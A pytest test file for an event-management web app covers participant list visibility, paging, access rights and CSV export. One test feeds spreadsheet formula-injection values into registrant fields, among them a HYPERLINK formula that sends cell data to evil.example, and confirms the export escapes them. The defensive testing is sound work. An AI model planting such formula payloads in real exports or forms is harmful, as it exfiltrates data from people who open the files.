"""The participant list (consented, or full for conveners and hosts) and its CSV export."""
import csv
import io

import pytest

from dialogues.accounts.enums import StakeholderGroup
from dialogues.events.models import Event
from dialogues.extensions import db
from dialogues.participants import exports, services
from dialogues.registration.enums import RegistrationStatus, SponsorshipStatus

S = RegistrationStatus


def _people(register, event):
    register(event, name="Ana Listed", status=S.CONFIRMED, listed=True, organisation_name="Cooperativa Mineira")
    register(event, name="Bruno Attended", status=S.ATTENDED, listed=True)
    register(event, name="Carla Unlisted", status=S.CONFIRMED, listed=False)
    register(event, name="Dario Applied", status=S.APPLIED, listed=True)
    register(event, name="Eva Waiting", status=S.WAITLISTED, listed=True)
    register(event, name="Fatima Invited", status=S.INVITED, listed=False)
    register(event, name="Gil Cancelled", status=S.CANCELLED, listed=True)
    register(event, name="Hana Declined", status=S.DECLINED, listed=True)


SHOWN_TO_PARTICIPANTS = ["Ana Listed", "Bruno Attended"]
SHOWN_TO_ORGANISERS = ["Ana Listed", "Bruno Attended", "Carla Unlisted", "Dario Applied", "Eva Waiting", "Fatima Invited"]
EVERYONE = SHOWN_TO_ORGANISERS + ["Gil Cancelled", "Hana Declined"]


def _names_on(page: str) -> list[str]:
    return [name for name in EVERYONE if name in page]


@pytest.mark.parametrize("role", ["participant", "steering"])
def test_participants_see_only_confirmed_people_who_agreed_to_be_listed(client_as, cast, register, role):
    _people(register, cast.event)
    page = client_as(role).get(f"/events/{cast.event.id}/participants").get_data(as_text=True)
    assert _names_on(page) == SHOWN_TO_PARTICIPANTS
    assert "Cooperativa Mineira" in page
    assert "registrant1@example.org" not in page and "Status" not in page and "Download as CSV" not in page


@pytest.mark.parametrize("role", ["host", "convener", "secretariat"])
def test_conveners_and_hosts_see_everyone_with_status(client_as, cast, register, role):
    _people(register, cast.event)
    page = client_as(role).get(f"/events/{cast.event.id}/participants").get_data(as_text=True)
    assert _names_on(page) == SHOWN_TO_ORGANISERS
    assert "registrant3@example.org" in page
    assert '<span class="badge">On the waiting list</span>' in page and '<span class="badge">Invited</span>' in page


def test_list_only_shows_this_events_people(client_as, cast, register):
    register(cast.other_event, name="Ana Listed")
    page = client_as("convener").get(f"/events/{cast.event.id}/participants").get_data(as_text=True)
    assert _names_on(page) == [] and "Nobody is registered yet." in page


def test_list_pages_at_a_hundred(client_as, cast, register):
    for n in range(101):
        register(cast.event, name=f"Mineiro {n:03d}")
    client = client_as("host")
    first = client.get(f"/events/{cast.event.id}/participants").get_data(as_text=True)
    assert "Mineiro 099" in first and "Mineiro 100" not in first and "Page 1 of 2 (101 in all)" in first
    assert f'href="/events/{cast.event.id}/participants?page=2"' in first
    assert "Mineiro 100" in client.get(f"/events/{cast.event.id}/participants?page=2").get_data(as_text=True)


@pytest.mark.parametrize("role,status", [
    ("anonymous", 302), ("outsider", 403), ("participant", 200), ("steering", 200), ("host", 200), ("convener", 200),
])
def test_who_may_see_the_list(client_as, cast, role, status):
    response = client_as(role).get(f"/events/{cast.event.id}/participants")
    assert response.status_code == status
    if role == "anonymous":
        assert "/login" in response.headers["Location"]


def test_list_of_an_unknown_event_is_404(client_as):
    assert client_as("secretariat").get("/events/999999/participants").status_code == 404


# The CSV export

def _csv(response) -> list[list[str]]:
    body = response.get_data().decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline="")))


HEADER = ["Name", "Email", "Organisation", "Stakeholder group", "Country", "Status", "Sponsored", "Languages",
          "Interpretation needs", "Access needs", "Dietary needs", "Visa letter"]


def test_export_has_every_column_and_a_safe_name(client_as, cast, register):
    register(cast.event, name="Zé Ñandú 李明", status=S.CONFIRMED, group=StakeholderGroup.ASM, country="BO",
             organisation_name="Cooperativa Minera Señor de Mayo", languages=["es", "qu"],
             interpretation_needs="Quechua–English", access_needs="Step-free access", dietary_needs="Vegetarian",
             visa_letter_needed=True, sponsorship=SponsorshipStatus.PARTLY_AWARDED)
    register(cast.event, name="Ana Applied", status=S.APPLIED, group=None, country=None,
             sponsorship=SponsorshipStatus.REQUESTED)
    register(cast.event, name="Gil Cancelled", status=S.CANCELLED)
    response = client_as("convener").get(f"/events/{cast.event.id}/participants.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=participants-field-dialogue-in-manica-2031-05-04.csv")
    assert _csv(response) == [
        HEADER,
        ["Ana Applied", "registrant2@example.org", "", "", "", "Applied", "no", "", "", "", "", "no"],
        ["Zé Ñandú 李明", "registrant1@example.org", "Cooperativa Minera Señor de Mayo",
         StakeholderGroup.ASM.label, "Bolivia", "Confirmed", "yes", "Spanish; Quechua",
         "Quechua–English", "Step-free access", "Vegetarian", "yes"],
    ]


def test_export_makes_formula_cells_safe(client_as, cast, register):
    register(cast.event, name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', organisation_name="+1 Mining",
             dietary_needs="-2 meals", access_needs="@SUM(A1:A9)", interpretation_needs="\t=1+1")
    register(cast.event, name="\r=cmd", organisation_name="Ministry of Mines - Maputo")
    rows = _csv(client_as("host").get(f"/events/{cast.event.id}/participants.csv"))
    by_email = {row[1]: row for row in rows[1:]}
    first, second = by_email["registrant1@example.org"], by_email["registrant2@example.org"]
    assert first[0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert (first[2], first[8], first[9], first[10]) == ("'+1 Mining", "'\t=1+1", "'@SUM(A1:A9)", "'-2 meals")
    assert (second[0], second[2]) == ("'\r=cmd", "Ministry of Mines - Maputo")


def test_export_of_a_title_without_latin_letters_gets_a_plain_name(client_as, cast, register, make_event):
    event = make_event(title="矿业对话", programme_id=cast.programme.id)
    response = client_as("convener").get(f"/events/{event.id}/participants.csv")
    assert response.headers["Content-Disposition"] == f"attachment; filename=participants-event-{event.id}-2031-05-04.csv"
    assert _csv(response) == [HEADER]


@pytest.mark.parametrize("role,status", [
    ("anonymous", 302), ("outsider", 403), ("participant", 403), ("steering", 403), ("host", 200), ("convener", 200),
])
def test_who_may_export(client_as, cast, role, status):
    assert client_as(role).get(f"/events/{cast.event.id}/participants.csv").status_code == status


def test_consented_export_leaves_out_emails(app, cast, register):
    register(cast.event, name="+Ana", status=S.CONFIRMED)
    with app.app_context():
        event = db.session.get(Event, cast.event.id)
        text = exports.participants_csv(db.session.scalars(services.participant_list(event, full=False)).all(), full=False)
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0] == [c for c in HEADER if c != "Email"]
    assert rows[1][:2] == ["'+Ana", ""]
